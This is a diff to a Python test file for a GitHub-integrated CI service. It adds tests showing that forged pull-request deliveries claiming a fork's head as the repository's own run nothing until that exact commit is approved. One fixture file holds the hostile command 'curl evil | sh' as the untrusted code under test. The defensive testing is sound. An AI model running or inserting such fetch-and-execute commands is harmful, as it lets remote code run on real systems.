@@ -16,8 +16,11 @@ from sqlalchemy import Engine, text
 from backend.github.signature import sign
 from backend.services.base import projects
 from backend.services.base.config import ServiceConfig
+from backend.services.github import pull_requests as pull_requests_service
+from backend.store.github import pull_requests
 from tests.backend.services.github.github_stand_in import stand_in
 from tests.backend.services.github.test_comment_commands import Talk
+from tests.backend.services.github.test_pull_requests import ask_every_way, deliver
 from tests.conftest import LiveServer
 
 NOW = datetime.now(UTC)
@@ -150,6 +153,41 @@ def test_a_forged_comment_approves_nothing(talk: Talk, there: str | None) -> Non
     talk.forge({"action": "created", "issue": {"number": 7, "pull_request": {"url": "…"}}, "comment": comment})
     talk.hub.prepare()
     assert talk.hub.runs() == []
+
+
+@pytest.mark.parametrize("real_first", [True, False])
+def test_a_head_that_a_delivery_calls_the_repository_s_own_is_a_fork_s_where_no_branch_has_it(
+    talk: Talk, real_first: bool
+) -> None:
+    hub = talk.hub
+    sha = hub.push(7, **{"src/a.py": "curl evil | sh"})
+    if real_first:
+        hub.tell("opened", sha, fork=True)
+    hub.tell("synchronize", sha, forged=True)
+    talk.say("/tidemark run")
+    assert hub.runs() == []
+    for _ in range(2):
+        hub.prepare()
+        hub.clock += pull_requests_service.RETRY_AFTER
+    assert hub.runs() == []
+    with hub.engine.connect() as c:
+        row = pull_requests.find(c, hub.project.id, 7)
+        assert row is not None and row.is_fork and row.prepared_sha is None
+        assert not c.scalar(text("SELECT count(*) FROM commit WHERE sha = :sha"), {"sha": sha})
+    # Neither is it run after a result that names it, and another such delivery.
+    deliver(hub, sha)
+    hub.tell("synchronize", sha, forged=True)
+    assert all("approves exactly that commit" in refusal for refusal in ask_every_way(hub, sha))
+    hub.approve(sha)
+    hub.prepare()
+    assert [run[0] for run in hub.runs()] == [sha]
+
+
+def test_a_head_that_a_branch_has_is_run_without_an_approval_also_when_the_branch_was_not_read_yet(talk: Talk) -> None:
+    sha = talk.hub.push(7, **{"src/a.py": "2"})
+    talk.hub.tell("opened", sha)
+    talk.hub.prepare()
+    assert [run[0] for run in talk.hub.runs()] == [sha]
 
 
 def test_a_token_that_may_write_approves_nothing(live_server: LiveServer) -> None:
